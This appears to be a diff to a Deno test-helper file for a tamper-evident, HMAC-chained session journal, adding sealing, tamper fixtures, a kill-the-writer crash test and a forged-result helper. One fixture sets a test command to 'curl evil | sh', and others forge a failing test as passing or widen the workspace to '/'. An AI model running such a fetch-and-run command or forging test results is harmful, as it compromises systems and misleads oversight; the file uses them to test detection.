@@ -1,19 +1,20 @@
 import { createHmac } from "node:crypto";
 import type { ActionRecord } from "../../lib/briefing/report.ts";
-import type {
-  ResultDescriptor,
+import {
+  type ResultDescriptor,
   ResultStore,
 } from "../../lib/store/result_store.ts";
-import {
-  type LoadedSession,
-  saveSnapshot,
-  type SessionRun,
-  type SessionSaveInfo,
-  SessionStore,
-} from "../../lib/persist/session_store.ts";
+import { saveSnapshot, SessionStore } from "../../lib/persist/session_store.ts";
+import type {
+  LoadedSession,
+  SessionRun,
+  SessionSaveInfo,
+} from "../../lib/persist/session_types.ts";
 import type { PersistenceOverrides } from "../../lib/persist/tool_policy.ts";
 import type { SliceSnapshot } from "../../lib/slice/run_state.ts";
+import { runStateOf } from "../../lib/persist/session_verify.ts";
 import { storeWith, testsRunRecord } from "../_factories.ts";
+import assert from "node:assert/strict";
 
 /** A workspace, a session root and a key file in one temp dir, removed when disposed. */
 export interface Layout extends AsyncDisposable {
@@ -217,6 +218,23 @@ export async function catalogueOf(
 }
 
 /**
+ * Seals a record the way the journal does (written here again, apart from
+ * lib/, so that the tests pin the format: the HMAC-SHA256 of the previous
+ * MAC, a newline and the record, appended as its last key).
+ */
+export function seal(
+  key: Uint8Array,
+  previous: string,
+  value: Record<string, unknown>,
+): { text: string; mac: string } {
+  const body = JSON.stringify(value);
+  const mac = createHmac("sha256", key).update(`${previous}\n${body}`).digest(
+    "hex",
+  );
+  return { text: `${body.slice(0, -1)},"mac":"${mac}"}`, mac };
+}
+
+/**
  * Rewrites the journal's records. Without a key the MACs stay as they were
  * (what anyone who can write the folder can do); with the key the whole
  * chain is sealed again (what only the key's owner can do), so checks
@@ -238,11 +256,9 @@ export async function rewriteJournal(
   for (const record of records) {
     if (key !== undefined) {
       const { mac: _, ...rest } = record;
-      const body = JSON.stringify(rest);
-      const mac = createHmac("sha256", key).update(`${previous}\n${body}`)
-        .digest("hex");
-      text += `${body.slice(0, -1)},"mac":"${mac}"}\n`;
-      previous = mac;
+      const sealed = seal(key, previous, rest);
+      text += `${sealed.text}\n`;
+      previous = sealed.mac;
     } else {
       text += `${JSON.stringify(record)}\n`;
     }
@@ -296,5 +312,169 @@ export async function exists(path: string): Promise<boolean> {
     return true;
   } catch {
     return false;
+  }
+}
+
+// deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
+type JournalLine = Record<string, any>;
+
+/** A journal edit: what it does, the first record it breaks, the edit. */
+export type JournalTamper = [
+  string,
+  number,
+  (records: JournalLine[]) => JournalLine[] | void,
+];
+
+/**
+ * Records changed without the key (in place), on the sample session saved
+ * stepwise: each must be refused as `session_tampered` naming the record.
+ */
+export const CHANGED_RECORDS: readonly JournalTamper[] = [
+  ["a failed test record rewritten to exit_code 0", 2, (r) => {
+    r[2]!.records[0].report.exit_code = 0;
+  }],
+  ["a changed test command", 0, (r) => {
+    r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
+  }],
+  ["a widened workspace", 0, (r) => {
+    r[0]!.workspace = "/";
+  }],
+  ["a raised step budget", 0, (r) => {
+    r[0]!.max_steps = 1_000;
+  }],
+  ["counters rolled back", 3, (r) => {
+    r[3]!.counters.model_calls = 0;
+  }],
+];
+
+/** Records reordered, dropped or duplicated: refused like a changed one. */
+export const REORDERED_RECORDS: readonly JournalTamper[] = [
+  ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
+  ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
+  ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
+  ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
+];
+
+/**
+ * Starts `_kill_writer.ts` (a session saved step by step, each step
+ * acknowledged on its output) and kills it with SIGKILL `delayMs` after
+ * its `acks`-th acknowledgement: somewhere inside a later step.
+ *
+ * @param acks Acknowledged steps to wait for.
+ * @param delayMs How long after them to kill it.
+ * @param args The writer's arguments: session, workspace, key file, store.
+ * @param net Whether it needs the network (a database store).
+ * @returns How many steps it acknowledged.
+ */
+export async function killWriterAfter(
+  acks: number,
+  delayMs: number,
+  args: readonly string[],
+  net = false,
+): Promise<number> {
+  const child = new Deno.Command(Deno.execPath(), {
+    args: [
+      "run",
+      "--allow-read",
+      "--allow-write",
+      "--allow-run",
+      "--allow-env",
+      ...(net ? ["--allow-net=127.0.0.1"] : []),
+      new URL("./_kill_writer.ts", import.meta.url).pathname,
+      ...args,
+    ],
+    stdin: "null",
+    stdout: "piped",
+    stderr: "inherit",
+  }).spawn();
+  let acked = 0;
+  let text = "";
+  const reader = child.stdout.pipeThrough(new TextDecoderStream())
+    .getReader();
+  while (acked < acks) {
+    const { value, done } = await reader.read();
+    if (done) break;
+    text += value;
+    acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
+  }
+  await new Promise((resolve) => setTimeout(resolve, delayMs));
+  child.kill("SIGKILL");
+  assert.equal((await child.status).signal, "SIGKILL");
+  await reader.cancel();
+  return acked;
+}
+
+/**
+ * Asserts that a session loaded after its writer was killed kept every
+ * acknowledged step, whole and in order, each with its result.
+ *
+ * @param loaded The loaded (or verified) session.
+ * @param acked How many steps the writer acknowledged.
+ */
+export function assertKeptSteps(loaded: LoadedSession, acked: number): void {
+  assert.ok(loaded.state.steps >= acked, `${loaded.state.steps} < ${acked}`);
+  assert.deepEqual(
+    runStateOf(loaded).records.map((r) => r.sequence),
+    Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
+  );
+  assert.equal(loaded.results.length, loaded.state.steps);
+}
+
+/** The sample's failing test output, forged to pass. */
+export const FORGED_OUTPUT = TEST_OUTPUT.replace(
+  "expected 3, got 4",
+  "all passed",
+);
+
+/**
+ * Points the sample's test record (record 2, `result-3`) at a forged body
+ * with its recomputed digest and a passing exit code: what an attacker
+ * who can write the session but has no key would do.
+ *
+ * @param records The journal's parsed lines (changed in place).
+ * @param digest The forged body's SHA-256.
+ * @returns The records.
+ */
+export function pointAtForged(
+  records: JournalLine[],
+  digest: string,
+): JournalLine[] {
+  const entry = records[2]!.results["result-3"];
+  entry.sha256 = digest;
+  entry.utf8_bytes = new TextEncoder().encode(FORGED_OUTPUT).length;
+  entry.source.persisted = `tool-results/${digest}.txt`;
+  records[2]!.records[0].report.output.sha256 = digest;
+  records[2]!.records[0].report.exit_code = 0;
+  return records;
+}
+
+/**
+ * A run of as many steps as a writer saves (a killed writer, the storage
+ * benchmark): step N is a failing or passing `tests.run` whose output is
+ * large enough to go to `tool-results/`.
+ */
+export class EndlessRun {
+  readonly #results = new ResultStore({
+    maxResults: 1_000_000,
+    maxTotalBytes: 2 ** 40,
+  });
+  readonly #records: ActionRecord[] = [];
+
+  /** How the session runs: the sample's, with a step budget never reached. */
+  static readonly RUN: SessionRun = { ...RUN, maxSteps: 1_000_000 };
+
+  /**
+   * Adds step `n` (the next) and returns the run's state after it.
+   *
+   * @param n The step's number.
+   * @returns The snapshot to save.
+   */
+  async step(n: number): Promise<SliceSnapshot> {
+    const output = await this.#results.put(`step ${n}\n`.repeat(4_000), {
+      origin: "tests.run x",
+      capture: "complete",
+    });
+    this.#records.push(testsRecord(n, output, n % 2));
+    return snapshotOf(this.#results, this.#records);
   }
 }
